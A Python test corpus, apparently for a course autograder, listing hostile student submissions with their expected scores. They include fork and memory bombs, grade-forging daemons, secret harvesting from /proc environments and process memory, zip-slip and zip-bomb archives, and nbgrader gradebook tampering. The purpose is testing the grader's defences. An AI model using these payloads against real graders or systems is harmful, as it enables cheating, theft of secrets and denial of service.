"""The hostile corpus of assignment 1: one bad thing per submission, with the score it must get.

Unless said otherwise the attack sits in ``avg_pool_forward_naive`` (4 points,
2 cases, so a timing-out attack costs two case time limits) and the rest of
the submission is the reference: the expected score is 96. Points per file:
``cs7150/conv.py`` 30, ``cs7150/pool.py`` 27, ``cs7150/conv_fast.py`` 32,
``cs7150/pool_fast.py`` 11 (``pool_fast.py`` imports ``pool.py``).

Existing synthetic students that already are attacks (``runaway``,
``quitter``, ``forger``, ``hang_and_memory``, ``naive_torch``...) are reused
from ``coursetools.samples``, not copied. Paths a strong attacker would guess
are ``$NAME`` placeholders (see ``Context.substitute``). Every attack is
bounded even if the grader failed to stop it (at most 300 processes, 1 GiB
written, 3 s of polling), so that running the corpus cannot take the machine
down.
"""
import json
import os
import zipfile

from corpus import (Attack, assignment, before_honest, edited, from_sample, notebook_attack,
                               with_file_text)
from coursetools.samples import Body, Edit, Sample, write_sample

AVG = "avg_pool_forward_naive"
ZEROS = "return np.zeros((x.shape[0], x.shape[1], H_out, W_out), dtype=x.dtype), (x, pool_param)"


def attack(name, group, what, expected, build, function=AVG, feedback=(), fast=False):
    return Attack(name, group, what, expected, build, function, tuple(feedback), fast)


def body(name, code, function=AVG):
    return edited(name, Body(function, code))


# ---- runaway code --------------------------------------------------------------------------------

FORK_BOMB = '''
import os, time
for _ in range(300):  # bounded: 300 processes at most, even if nothing stops it
    if os.fork() == 0:
        time.sleep(600)
        os._exit(0)
'''

SESSION_ESCAPE = '''
import os, time
if os.fork() == 0:  # a daemon in a new session, outside the run's process group
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)
'''

LATE_REWRITER = '''
import glob, json, os, time
if os.fork() == 0:  # a double-forked daemon that waits for the grade, then rewrites it to full marks
    os.setsid()
    if os.fork() == 0:
        forged = json.dumps({"score": 100, "tests": [], "note": "$MARKER"})
        for _ in range(40):
            time.sleep(0.5)
            for path in glob.glob("$OUT/students/*/results.json") + glob.glob("/autograder/results/results.json"):
                try:
                    with open(path, "w") as file:
                        file.write(forged)
                except OSError:
                    pass
    os._exit(0)
'''

MEMORY_BOMB = '''
hoard = []
while True:  # 64 MiB more each time (pages written by memory_across_processes)
    hoard.append(np.zeros(8 << 20))
'''

MEMORY_ACROSS_PROCESSES = '''
import os, time
for _ in range(6):  # 6 processes of 600 MiB each: each under the per-process limit, not together
    if os.fork() == 0:
        hoard = b"x" * (600 << 20)
        time.sleep(60)
        os._exit(0)
time.sleep(60)
'''

HUGE_FILE = '''
with open("huge.bin", "wb") as file:  # in the working directory; 1 GiB if nothing stops it
    for _ in range(1024):
        file.write(bytes(1 << 20))
'''

DISK_FILLER = '''
import time
for i in range(12):  # 12 files of 60 MiB: each under the file-size limit, not together
    with open(f"fill{i}.bin", "wb") as file:
        file.write(bytes(60 << 20))
time.sleep(30)
'''

RUNAWAY = [
    attack("import_loop", "runaway", "an infinite loop when cs7150/pool_fast.py is imported", 89,
           edited("import_loop", appended={"cs7150/pool_fast.py": "while True:\n    pass\n"}),
           function="avg_pool_forward_fast", feedback=["timed out after", "while importing its module"], fast=True),
    attack("hang_and_memory", "runaway", "an infinite loop in a function (and a 64 GiB array in another); "
           "an existing sample", 93, from_sample("hang_and_memory"), function="avg_pool_backward_naive",
           feedback=["timed out after", "MemoryError"]),
    attack("sleep_forever", "runaway", "time.sleep(10**6) in a function", 96,
           body("sleep_forever", "import time\ntime.sleep(10**6)"), feedback=["timed out after"], fast=True),
    attack("runaway", "runaway", "ignores the per-case alarm and loops; an existing sample", 48,
           from_sample("runaway"), feedback=["stopped at the"], fast=True),
    attack("memory_bomb", "runaway", "grows a list of 64 MiB arrays until memory runs out", 96,
           body("memory_bomb", MEMORY_BOMB), feedback=["ran out of memory", "MiB memory limit"], fast=True),
    attack("memory_across_processes", "runaway", "6 forked processes of 600 MiB each (each under the limit)", 96,
           body("memory_across_processes", MEMORY_ACROSS_PROCESSES),
           feedback=["processes together used more than"]),
    attack("fork_bomb", "runaway", "forks up to 300 sleeping processes", 96, body("fork_bomb", FORK_BOMB),
           feedback=["tried to start more processes", "process(es) running; the grader killed them"], fast=True),
    attack("session_escape", "runaway", "leaves a daemon in a new session (outside the process group), "
           "then returns the right answer", 100, edited("session_escape", before_honest(AVG, SESSION_ESCAPE)),
           feedback=["process(es) running; the grader killed them"], fast=True),
    attack("late_rewriter", "runaway", "a double-forked daemon that waits for the grade, then rewrites every "
           "results.json to full marks", 100, edited("late_rewriter", before_honest(AVG, LATE_REWRITER)),
           feedback=["process(es) running; the grader killed them"], fast=True),
    attack("thread_forever", "runaway", "starts a non-daemon thread that sleeps forever, then returns the "
           "right answer", 100, edited("thread_forever", before_honest(
               AVG, "import threading, time\nthreading.Thread(target=time.sleep, args=(10**6,)).start()")),
           feedback=["left threads running"], fast=True),
    attack("print_flood", "runaway", "prints 10 million lines", 96,
           body("print_flood", 'print("\\n".join(["printed line"] * 10_000_000))'),
           feedback=["file-size limit"], fast=True),
    attack("huge_file", "runaway", "writes a 1 GiB file into its working directory", 96,
           body("huge_file", HUGE_FILE), feedback=["file-size limit"], fast=True),
    attack("disk_filler", "runaway", "writes 12 files of 60 MiB (each under the file-size limit)", 96,
           body("disk_filler", DISK_FILLER), feedback=["MiB disk limit"]),
]

# ---- lies ----------------------------------------------------------------------------------------

ALWAYS_EQUAL = '''
class AlwaysEqual:  # claims to equal anything, and converts to zeros
    shape = dtype = None

    def __eq__(self, other):
        return True

    def __array__(self, dtype=None, copy=None):
        return np.zeros((x.shape[0], x.shape[1], H_out, W_out), dtype=x.dtype)


return AlwaysEqual(), (x, pool_param)
'''

NDARRAY_SUBCLASS = '''
class Agreeable(np.ndarray):  # a real array that claims to equal anything
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)


return np.zeros((x.shape[0], x.shape[1], H_out, W_out), dtype=x.dtype).view(Agreeable), (x, pool_param)
'''

PATCHED_COMPARISONS = f'''
import math
np.allclose = np.array_equal = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *args, **kwargs: None
math.isclose = lambda *args, **kwargs: True
{ZEROS}
'''

PATCHED_BUILTINS = f'''
import builtins
builtins.isinstance = lambda obj, kind: True
builtins.abs = lambda value: 0
builtins.max = builtins.min = lambda *args, **kwargs: 0
{ZEROS}
'''

PATCHED_GRADER = '''
import sys
runner = sys.modules["__main__"]  # the grader's runner in this process: claim every output is fine
runner._outputs = lambda call, result, np, *rest: ({name: np.ones(1) for name in call["outputs"]}, None)
try:
    import autograder.package.grading  # the grader's own modules, if this process can find them
    autograder.package.grading.grade_case = lambda *args, **kwargs: None
except ImportError:
    pass
return np.zeros_like(cache[0])
'''

FORGED_FILES = '''
import json, os
forged = json.dumps({"score": 100, "tests": [], "note": "$MARKER"})
errors = []
for folder in (".", "$OUT", "$OUT/forged_files", "..", "../results"):  # the sandbox, then guesses
    for name in ("results.json", "grades.csv"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write(forged)
        except OSError as error:
            errors.append(error)
if errors:
    raise errors[0]
'''

EDIT_OUTSIDE = '''
import os
errors = []
actions = [
    lambda: open("$CANARY/victim.txt", "a").write("$MARKER"),
    lambda: os.remove("$CANARY/victim.txt"),
    lambda: open("$REPO_CANARY", "a").write("$MARKER"),
    lambda: open("$REPO/PWNED-$MARKER.txt", "w").write("$MARKER"),
    lambda: open(os.path.expanduser("~/PWNED-$MARKER.txt"), "w").write("$MARKER"),
    lambda: open("/tmp/PWNED-$MARKER.txt", "w").write("$MARKER"),
]
for action in actions:
    try:
        action()
    except OSError as error:
        errors.append(error)
if errors:
    raise errors[0]
'''

KILL_RUNNER = '''
import os, signal, time
try:
    with open(f"/proc/{os.getppid()}/cmdline", "rb") as file:
        parent = file.read()
except OSError:  # hidden from it: a confined runner is not dumpable, so /proc shows it to no one of its uid
    parent = b"runner.py"
if b"runner.py" in parent:  # only the grader's runner, never anything else
    os.kill(os.getppid(), signal.SIGKILL)
    time.sleep(5)
'''

SYMLINKED_OUTPUTS = f'''
import glob, os, re
theirs = os.path.join(os.path.dirname(os.path.abspath("..")), "$HONEST", "results")  # a sibling run's folder
ids = [f"p04c{{c:02d}}" for c in range(8)]  # avg_pool_forward_naive is part 4: guessed, the plan is out of reach
ids += [case.decode() for plan in glob.glob("../plan*")  # unconfined, the plan is readable
        for case in re.findall(rb'"id": "(p04c\\d\\d)"', open(plan, "rb").read())]
for case_id in ids:
    mine = f"../results/{{case_id}}.npz"  # every output of mine becomes a link to theirs
    if os.path.lexists(mine):
        os.remove(mine)
        os.symlink(os.path.join(theirs, case_id + ".npz"), mine)
{ZEROS}
'''

FIFO_STATUS = '''
import os
os.remove("../results/status.jsonl")  # a FIFO blocks whoever opens it to read
os.mkfifo("../results/status.jsonl")
'''

LIES = [
    attack("always_equal", "lies", "returns an object whose __eq__ and __array__ claim success", 96,
           body("always_equal", ALWAYS_EQUAL), feedback=["not a numpy.ndarray"], fast=True),
    attack("ndarray_subclass", "lies", "returns a numpy subclass whose == is always true", 96,
           body("ndarray_subclass", NDARRAY_SUBCLASS), feedback=["not a numpy.ndarray"]),
    attack("forger", "lies", "forges results and status files, patches numpy, an always-equal ndarray, "
           "sys.exit (several at once); an existing sample", 70, from_sample("forger"), function="conv_forward_naive",
           feedback=["not a numpy.ndarray", "called sys.exit(0)"]),
    attack("patched_comparisons", "lies", "patches numpy.allclose/isclose/array_equal, numpy.testing and "
           "math.isclose, returns zeros", 96, body("patched_comparisons", PATCHED_COMPARISONS),
           feedback=["values differ"]),
    attack("patched_builtins", "lies", "patches builtins (isinstance, abs, max, min), returns zeros", 96,
           body("patched_builtins", PATCHED_BUILTINS), fast=True),
    attack("patched_grader", "lies", "patches the grader's runner and tries to import the grader's modules "
           "(in avg_pool_backward_naive, 5 points)", 95, body("patched_grader", PATCHED_GRADER, "avg_pool_backward_naive"),
           function="avg_pool_backward_naive", feedback=["wrong output size"], fast=True),
    attack("sys_exit", "lies", "sys.exit(0) inside a function", 96, body("sys_exit", "import sys\nsys.exit(0)"),
           feedback=["called sys.exit(0)"], fast=True),
    attack("keyboard_interrupt", "lies", "raises KeyboardInterrupt inside a function", 96,
           body("keyboard_interrupt", "raise KeyboardInterrupt"), feedback=["raised KeyboardInterrupt"], fast=True),
    attack("quitter", "lies", "os._exit(0) inside a function; an existing sample", 92, from_sample("quitter"),
           function="max_pool_forward_naive", feedback=["exit status 0"]),
    attack("kill_runner", "lies", "SIGKILLs the grader's runner process", 96, body("kill_runner", KILL_RUNNER),
           feedback=["ended by signal 9", "a new process graded the remaining cases"], fast=True),
    attack("forged_files", "lies", "writes results.json and grades.csv to its folder and the output folder", 96,
           body("forged_files", FORGED_FILES), feedback=["tried to open", "outside what graded code may see"],
           fast=True),
    attack("symlinked_outputs", "lies", "replaces its output files by links to another student's outputs", 96,
           body("symlinked_outputs", SYMLINKED_OUTPUTS), feedback=["tried to open", "results"], fast=True),
    attack("fifo_status", "lies", "replaces its status file by a FIFO (a grader reading it would block)", 96,
           body("fifo_status", FIFO_STATUS), feedback=["tried to open", "status.jsonl"], fast=True),
    attack("edit_outside", "lies", "appends to and deletes files outside its folder (a canary folder, "
           "the repository, ~, /tmp)", 96, body("edit_outside", EDIT_OUTSIDE), feedback=["tried to open"], fast=True),
]

# ---- snooping ------------------------------------------------------------------------------------

READ_REFERENCE = '''
from pathlib import Path
guessed = Path(np.__file__).resolve().parents[5]  # .venv/lib/python3.X/site-packages/numpy -> the repository
namespace = {}
for repo in (guessed, Path("$REPO")):
    try:
        source = (repo / "cs7150" / "pool.py").read_text()
    except OSError as error:
        last = error
        continue
    exec(compile(source, "reference", "exec"), namespace)
    return namespace["avg_pool_forward_naive"](x, pool_param)
raise last
'''

READ_CONFIG = '''
with open("$REPO/autograder/assignments/assignment1.json") as file:  # the hidden tests' configuration
    raise RuntimeError(file.read()[:500])
'''

READ_OTHER_STUDENT = '''
import glob, time
patterns = ["../../*/sandbox/cs7150/pool.py", "../../../extracted/**/cs7150/pool.py",  # zips unpacked, any depth
            "$SUBMISSIONS/$HONEST/cs7150/pool.py"]
deadline = time.monotonic() + 1.5  # poll a while for a student graded at the same time
while time.monotonic() < deadline:
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True):
            if "read_other_student" not in path:
                with open(path) as file:
                    raise RuntimeError(file.read()[-400:])  # another student's work, into this feedback
    time.sleep(0.1)
open(patterns[-1])
'''

NETWORK = '''
import socket
with socket.create_connection(("127.0.0.1", $PORT), timeout=2) as connection:  # the grader's loopback
    connection.sendall(b"$MARKER")
'''

ENV_SECRETS = '''
import glob, os
found = [f"{key}={value}" for key, value in os.environ.items()]
for path in sorted(glob.glob("/proc/[0-9]*/environ")):  # every process's environment it can see
    try:
        with open(path, "rb") as file:
            found += file.read().decode(errors="replace").split("\\0")
    except OSError as error:
        found.append(str(error))
found.sort(key=lambda entry: not any(word in entry.upper() for word in ("TOKEN", "SECRET", "PASSWORD", "KEY")))
raise RuntimeError("environment: " + " ".join(found))  # the likeliest secrets first
'''
OTHER_CASES = r'''
import ctypes, gc, glob, os, re
key = re.compile(rb"p\d\dc\d\d__[a-z]")  # an input's name as the grader stores it: <case id>__<array>
with open("../results/status.jsonl", "rb") as file:  # the cases started so far, this one last
    started = set(re.findall(rb'"id": "(p\d\dc\d\d)"', file.read()))
mine = max(started)[:3]  # this function's part: its own cases are no one else's
found, searched = set(), {"objects": 0, "files": 0, "descriptors": 0, "memory MiB": 0}


def search(data, where):
    for match in key.finditer(data):
        case = match.group(0)[:6]
        if case not in started and case[:3] != mine:
            found.add(f"{case.decode()} in {where}")


def read_file(path, where):
    try:
        with open(path, "rb") as file:
            search(file.read(1 << 24), where)
        searched["files"] += 1
    except OSError:
        pass


def read_memory(pid):  # every readable mapping of the process, through /proc/PID/mem
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
            for line in maps:
                fields = line.split()
                start, end = (int(n, 16) for n in fields[0].split("-"))
                if "r" not in fields[1] or (len(fields) > 5 and fields[5] in ("[vvar]", "[vsyscall]")):
                    continue
                try:
                    memory.seek(start)
                    search(memory.read(min(end - start, 1 << 28)), f"the memory of process {pid}")
                    searched["memory MiB"] += (end - start) >> 20
                except (OSError, ValueError, OverflowError):
                    pass
    except OSError:
        pass


for obj in gc.get_objects():  # the runner's plan and inputs, inherited by this forked worker
    searched["objects"] += 1
    if isinstance(obj, dict):
        texts = [t for t in (*obj, *obj.values()) if isinstance(t, (str, bytes))]
    elif isinstance(obj, (list, tuple, set)):
        texts = [t for t in obj if isinstance(t, (str, bytes))]
    else:
        continue
    for text in texts:
        search(text if isinstance(text, bytes) else text.encode(errors="replace"), "an object in memory")
read_memory("self")
read_memory(os.getppid())  # the runner
libc = ctypes.CDLL(None, use_errno=True)
for pid in ("self", str(os.getppid())):
    for path in glob.glob(f"/proc/{pid}/fd/*"):  # open files: the plan on stdin, the inputs
        searched["descriptors"] += 1
        read_file(path, path)
        try:
            search(os.pread(int(os.path.basename(path)), 1 << 24, 0), path) if pid == "self" else None
        except (OSError, ValueError):
            pass
    for name in ("cmdline", "environ"):
        read_file(f"/proc/{pid}/{name}", f"/proc/{pid}/{name}")
pidfd = libc.syscall(434, os.getppid(), 0)  # pidfd_open, then pidfd_getfd: a copy of the runner's stdin
for number in range(8) if pidfd >= 0 else ():
    copied = libc.syscall(438, pidfd, number, 0)
    if copied >= 0:
        searched["descriptors"] += 1
        try:
            search(os.pread(copied, 1 << 24, 0), f"the runner's descriptor {number}")
        except OSError:
            pass
work = os.path.abspath("../../..")  # its run's folder of the grader (runs/<id>/sandbox is its working directory)
candidates = [f"{work}/{name}" for name in ("inputs.npz", "plan-naive", "plan-others")]  # the grader's names
candidates += [f"../plan{n}{suffix}" for n in range(8) for suffix in ("", ".json")]
candidates += glob.glob("../*") + glob.glob("../results/*")
for folder, _, names in os.walk(work):  # whatever of it it can list
    candidates += [os.path.join(folder, name) for name in names][:2000]
for path in candidates:
    read_file(path, path)
if found:
    raise RuntimeError(f"found inputs of cases not yet graded: {sorted(found)[:6]}")
raise RuntimeError(f"found no input of a case not yet graded ({searched})")
'''

SNOOPING = [
    attack("read_reference", "snooping", "reads the instructor's cs7150/pool.py (path guessed from numpy's) "
           "and runs it", 96, body("read_reference", READ_REFERENCE), feedback=["tried to open", "cs7150/pool.py"],
           fast=True),
    attack("read_hidden_config", "snooping", "reads autograder/assignments/assignment1.json into its feedback", 96,
           body("read_hidden_config", READ_CONFIG), feedback=["tried to open", "assignment1.json"], fast=True),
    attack("read_other_student", "snooping", "polls for other students' sandboxes and submissions to copy", 96,
           body("read_other_student", READ_OTHER_STUDENT), feedback=["tried to open", "honest_student"], fast=True),
    attack("network", "snooping", "connects to a port on the grader's loopback interface", 96,
           body("network", NETWORK), feedback=["tried to use the network"], fast=True),
    attack("env_secrets", "snooping", "reads its environment and every /proc/*/environ into its feedback", 96,
           body("env_secrets", ENV_SECRETS), feedback=["raised RuntimeError: environment:"], fast=True),
    attack("read_other_cases", "snooping", "searches its memory, the runner's, their open files and every path it "
           "can guess for the inputs of cases not yet graded", 96, body("read_other_cases", OTHER_CASES),
           feedback=["found no input of a case not yet graded"], fast=True),
]

# ---- forbidden shortcuts -------------------------------------------------------------------------

COMPUTED_FAST = '''
import importlib
_path = importlib.import_module("cs7150." + "conv" + "_fa" + "st")  # no name a static check could see


def _shortcut(x, w, b, conv_param):
    return getattr(_path, "conv_forward" + "_fa" + "st")(x, w, b, conv_param)
'''

SUBPROCESS_TORCH = '''
import subprocess, sys
program = "import sys, torch, numpy; sys.stdout.write('ok')"  # torch in another process of some Python
tried = []
shutil = __import__("shutil")
try:  # a copy of a system program where it may write
    shutil.copy("/usr/bin/python3", "/tmp/python3")
    os = __import__("os")
    os.chmod("/tmp/python3", 0o755)
except OSError as error:
    pass
for python in (sys.executable, "$REPO/.venv/bin/python", "/usr/bin/python3", "/usr/local/bin/python3", "python3",
               "/lib64/ld-linux-x86-64.so.2 /usr/bin/python3", "/tmp/python3"):
    try:
        done = subprocess.run([*python.split(), "-c", program], capture_output=True, text=True, timeout=2)
    except OSError as error:
        tried.append(f"{python}: {error}")
        continue
    if done.stdout == "ok":
        raise RuntimeError(f"{python} can import torch")
    tried.append(f"{python}: {done.stderr.strip().splitlines()[-1] if done.stderr.strip() else done.returncode}")
raise RuntimeError("; ".join(tried))
'''


HIDDEN_TORCH = '''
_backend = __import__("importlib").import_module("to" + "rch")  # no "import torch" for a static check to see
'''

TORCH_POOL = '''
out = _backend.nn.functional.avg_pool2d(_backend.from_numpy(x), (PH, PW), (stride_h, stride_w)).numpy()
return out, (x, pool_param)
'''

INSTRUCTOR_IMPORT = '''
import importlib, sys
sys.path.insert(0, "$REPO")  # the instructor's tree, first on the path
for name in [m for m in sys.modules if m == "cs7150" or m.startswith("cs7150.")]:
    del sys.modules[name]
reference = importlib.import_module("cs7150.pool")
if not reference.__file__.startswith("$REPO/cs7150/"):
    raise ImportError(f"the instructor's package is not importable from $REPO (got {reference.__file__})")
return reference.avg_pool_forward_naive(x, pool_param)
'''

SHORTCUTS = [
    attack("naive_torch", "shortcuts", "naive conv calls torch.nn.functional.conv2d; an existing sample", 85,
           from_sample("naive_torch"), function="conv_forward_naive", feedback=["naive conv used PyTorch"]),
    attack("naive_calls_fast", "shortcuts", "naive average pool calls the fast path", 96,
           body("naive_calls_fast", "from cs7150.pool_fast import avg_pool_forward_fast\n"
                "return avg_pool_forward_fast(x, pool_param)"), feedback=["called the fast path"], fast=True),
    attack("torch_hidden_import", "shortcuts", "imports torch by a computed name at module level of pool.py and "
           "pools with it", 73, edited("torch_hidden_import", Body(AVG, TORCH_POOL),
                                       appended={"cs7150/pool.py": HIDDEN_TORCH}),
           feedback=["tried to import torch, which graded code cannot reach"], fast=True),
    attack("computed_fast_import", "shortcuts", "conv.py imports the fast path by a computed name and the naive "
           "conv calls it through getattr", 70,
           edited("computed_fast_import", Body("conv_forward_naive", "return _shortcut(x, w, b, conv_param)"),
                  appended={"cs7150/conv.py": COMPUTED_FAST}),
           function="conv_forward_naive", feedback=["tried to import the fast path"], fast=True),
    attack("subprocess_torch", "shortcuts", "runs torch in another process of any Python it can find", 96,
           body("subprocess_torch", SUBPROCESS_TORCH), feedback=["No module named 'torch'", "Permission denied"],
           fast=True),
    attack("instructor_import", "shortcuts", "puts the repository first on sys.path and imports the instructor's "
           "cs7150", 96, body("instructor_import", INSTRUCTOR_IMPORT), feedback=["not importable"], fast=True),
]

# ---- broken packaging ----------------------------------------------------------------------------

def zipped(name, entries=(), omit=()):
    """A build writing ``<name>.zip``: the reference's student files (less ``omit``) and ``entries``
    (entry name with ``$NAME`` placeholders, bytes or a number of zero bytes, unix mode)."""
    def build(ctx, dest):
        folder = write_sample(Sample(name, None, omit=tuple(omit)), assignment(), dest / f".{name}-files")
        with zipfile.ZipFile(dest / f"{name}.zip", "w", zipfile.ZIP_DEFLATED) as archive:
            for path in sorted(folder.rglob("*")):
                if path.is_file():
                    archive.write(path, path.relative_to(folder).as_posix())
            for entry, data, mode in entries:
                info = zipfile.ZipInfo(ctx.substitute(entry))
                info.external_attr, info.compress_type = mode << 16, zipfile.ZIP_DEFLATED
                with archive.open(info, "w") as member:
                    if isinstance(data, int):  # streamed zeros: a bomb without holding it in memory
                        for _ in range(data >> 20):
                            member.write(bytes(1 << 20))
                    else:
                        member.write(ctx.substitute(data).encode())
        for path in sorted(folder.parent.rglob("*"), reverse=True):
            path.rmdir() if path.is_dir() else path.unlink()
        folder.parent.rmdir()
    return build


def folder_with(name, change):
    """A build writing the reference as a folder, then ``change(ctx, folder)``."""
    def build(ctx, dest):
        change(ctx, write_sample(Sample(name, None), assignment(), dest))
    return build


def _link_pool(ctx, folder):
    (folder / "cs7150" / "pool.py").unlink()
    os.symlink(ctx.repo_root / "cs7150" / "pool.py", folder / "cs7150" / "pool.py")  # the instructor's file


def _latin1_pool(ctx, folder):
    path = folder / "cs7150" / "pool.py"
    path.write_bytes(("# caf\u00e9 au lait\n" + path.read_text(encoding="utf-8")).encode("latin-1"))


def _non_utf8_name(ctx, folder):
    (folder / os.fsdecode(b"notes-\xff\xfe.txt")).write_text("my notes")


def _empty_folder(ctx, folder):
    for path in sorted(folder.rglob("*"), reverse=True):
        path.rmdir() if path.is_dir() else path.unlink()


def _empty_zip(ctx, dest):
    zipfile.ZipFile(dest / "empty_zip.zip", "w").close()


RENAMED = ("def avg_pool_forward_naive(", "def avg_pool_forward_naive_v2(")
NEW_SIGNATURE = ("def avg_pool_forward_naive(x, pool_param):", "def avg_pool_forward_naive(x, pool_height, pool_width, stride):")

PACKAGING = [
    attack("syntax_error", "packaging", "a syntax error in cs7150/pool_fast.py", 89,
           edited("syntax_error", appended={"cs7150/pool_fast.py": "def broken(:\n"}), function="avg_pool_forward_fast",
           feedback=["SyntaxError", "while importing its module"], fast=True),
    attack("missing_function", "packaging", "avg_pool_forward_naive renamed away", 96,
           with_file_text("missing_function", "cs7150/pool.py", lambda text: text.replace(*RENAMED)),
           feedback=["has no attribute 'avg_pool_forward_naive'"]),
    attack("wrong_signature", "packaging", "avg_pool_forward_naive takes other arguments", 96,
           with_file_text("wrong_signature", "cs7150/pool.py", lambda text: text.replace(*NEW_SIGNATURE)),
           feedback=["raised TypeError"], fast=True),
    attack("wrong_output_size", "packaging", "wrong output shape; an existing sample", 92, from_sample("wrong_output_size"),
           function="max_pool_forward_naive", feedback=["wrong output size"]),
    attack("wrong_dtype", "packaging", "returns float32 for float64 inputs", 96,
           edited("wrong_dtype", Edit(AVG, "return out, cache", "return out.astype(np.float32), cache")),
           feedback=["dtype float32, expected float64"]),
    attack("nan_inf", "packaging", "NaN and inf in its output", 96,
           edited("nan_inf", Edit(AVG, "return out, cache",
                                  "out[..., 0] = np.nan; out[..., -1] = np.inf; return out, cache")),
           feedback=["contains nan"], fast=True),
    attack("partial_files", "packaging", "two student files missing, extra files; an existing sample", 57,
           from_sample("partial_files"), function=None, feedback=["was not found in the submission"]),
    attack("zip_dotdot", "packaging", "a zip entry ../PWNED (zip slip)", 0,
           zipped("zip_dotdot", [("../PWNED-$MARKER.py", "print('$MARKER')", 0o644)]), function=None,
           feedback=["could not be opened safely", "points outside"], fast=True),
    attack("zip_absolute", "packaging", "a zip entry with an absolute path", 0,
           zipped("zip_absolute", [("/tmp/PWNED-$MARKER.py", "print('$MARKER')", 0o644)]), function=None,
           feedback=["could not be opened safely", "points outside"]),
    attack("zip_symlink", "packaging", "a zip whose cs7150/pool.py is a symbolic link to the instructor's", 0,
           zipped("zip_symlink", [("cs7150/pool.py", "$REPO/cs7150/pool.py", 0o120777)], omit=["cs7150/pool.py"]),
           function=None, feedback=["could not be opened safely", "symbolic link"], fast=True),
    attack("folder_symlink", "packaging", "a folder whose cs7150/pool.py is a symbolic link to the instructor's",
           73, folder_with("folder_symlink", _link_pool), feedback=["symbolic link"]),
    attack("zip_bomb", "packaging", "a zip holding 200 MiB of zeros in a few hundred KiB", 0,
           zipped("zip_bomb", [("data/zeros.bin", 200 << 20, 0o644)]), function=None,
           feedback=["could not be opened safely", "bytes uncompressed"], fast=True),
    attack("non_utf8_filename", "packaging", "a file whose name is not UTF-8 beside the honest files", 100,
           folder_with("non_utf8_filename", _non_utf8_name), fast=True),
    attack("non_utf8_source", "packaging", "cs7150/pool.py encoded as Latin-1", 73,
           folder_with("non_utf8_source", _latin1_pool), feedback=["was not used", "utf-8"]),
    attack("empty_folder", "packaging", "an empty submission folder", 0, folder_with("empty_folder", _empty_folder),
           function=None, feedback=["was not found in the submission"], fast=True),
    attack("empty_zip", "packaging", "a zip with no entries", 0, lambda ctx, dest: _empty_zip(ctx, dest),
           function=None, feedback=["was not found in the submission"]),
]

# ---- stopping the class: one submission that breaks the grader itself ---------------------------

DEEP_EXPRESSION = "\nDEPTH = " + "1 + " * 200_000 + "1\n"  # Python's parser: RecursionError, not SyntaxError

DEEP_STATUS = '''
with open("../results/status.jsonl", "a") as status:  # the grader parses these lines: past json's depth
    status.write('{"id": "p00c00", "status": ' + "[" * 200000 + "\\n")
'''


def _twins(ctx, dest):
    for name in ("twin_ids", "TWIN_IDS"):  # one folder on macOS and Windows
        write_sample(Sample(name, None), assignment(), dest)


CLASS = [
    attack("deep_expression", "class", "cs7150/conv_fast.py holds an expression nested so deep that Python's "
           "parser raises RecursionError", 68, edited("deep_expression", appended={"cs7150/conv_fast.py":
                                                                                 DEEP_EXPRESSION}),
           function="conv_forward_fast", feedback=["RecursionError"], fast=True),
    attack("grades.csv", "class", "a student folder named like the class's grades file", 100,
           lambda ctx, dest: write_sample(Sample("grades.csv", None), assignment(), dest), function=None, fast=True),
    attack("twin_ids", "class", "two ids that differ only in case (twin_ids, TWIN_IDS)", None, _twins,
           function=None, feedback=["would share one output folder"], fast=True),
    attack("deep_status", "class", "writes a line nested 200000 deep into its status file", 100,
           body("deep_status", before_honest(AVG, DEEP_STATUS).code), fast=True),
]


# ---- notebook tampering (graded with --notebooks, through nbgrader) -------------------------------

WRONG_FC_TO_CONV = """

def fc_to_conv(W_fc, b_fc, input_shape):  # wrong on purpose: its test must fail
    return W_fc, b_fc
"""

NOTEBOOK_SNOOP = """
import glob
stolen, errors = [], []
for pattern in ("../../../gradebook.db", "../../../source/*/*.ipynb", "../../../../nbgrader-base/source/*/*.ipynb",
                "$REPO/assignments/source/*/*.ipynb", "$REPO/autograder/assignments/*.json"):
    for path in glob.glob(pattern) or [pattern]:
        try:
            with open(path, "rb") as file:
                stolen.append(file.read()[-2000:].decode(errors="replace"))
        except OSError as error:
            errors.append(str(error))


def fc_to_conv(W_fc, b_fc, input_shape):  # its test's error message is the exfiltration channel
    raise RuntimeError("stolen: " + " ".join(stolen) if stolen else "nothing readable: " + "; ".join(errors))
"""

GRADEBOOK_TAMPER = """
import os, sqlite3, time

def full_marks():
    with sqlite3.connect("../../../gradebook.db") as db:  # the course root, if the kernel can see it
        db.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cell WHERE id = grade.cell_id)")

try:
    full_marks()
finally:
    if os.fork() == 0:  # and again after nbgrader wrote its scores, for a minute at most
        os.setsid()
        for _ in range(60):
            time.sleep(1)
            try:
                full_marks()
            except Exception:
                pass
        os._exit(0)
"""


REBIND = r"""
import numpy, torch

def assert_close(*args, **kwargs):  # the locked helpers and the test's own helper, redefined to pass everything
    return None

def check_fc_to_conv(*args, **kwargs):
    return None

numpy.allclose = numpy.array_equal = lambda *args, **kwargs: True
torch.allclose = torch.equal = lambda *args, **kwargs: True
F = type("Anything", (), {"__getattr__": lambda self, name: (lambda *args, **kwargs: torch.zeros(1, 1, 1, 1))})()
"""

TRANSFORMER = r"""
from IPython import get_ipython

shell = get_ipython()  # every later cell emptied before it runs, every error swallowed
shell.input_transformers_cleanup.append(lambda lines: [] if any("assert" in line for line in lines) else lines)
shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
"""

HIDDEN_HUNT = r"""
import base64, glob, sys
marker, found = "HIDDEN " + "TESTS", []
for path in glob.glob("**/*.ipynb", recursive=True) + glob.glob("../../../**/*.ipynb", recursive=True):
    try:
        found.append(open(path, encoding="utf-8").read())
    except OSError:
        pass
found += list(In)
print("encoded:", base64.b64encode("".join(t for t in found if marker in t).encode()).decode()[:3000] or "nothing")


def fc_to_conv(W_fc, b_fc, input_shape):  # right, and looking at its callers' frames and the history when called
    frame, seen = sys._getframe(), []
    while frame is not None:
        seen.append(repr(frame.f_code.co_consts) + repr(frame.f_locals))
        frame = frame.f_back
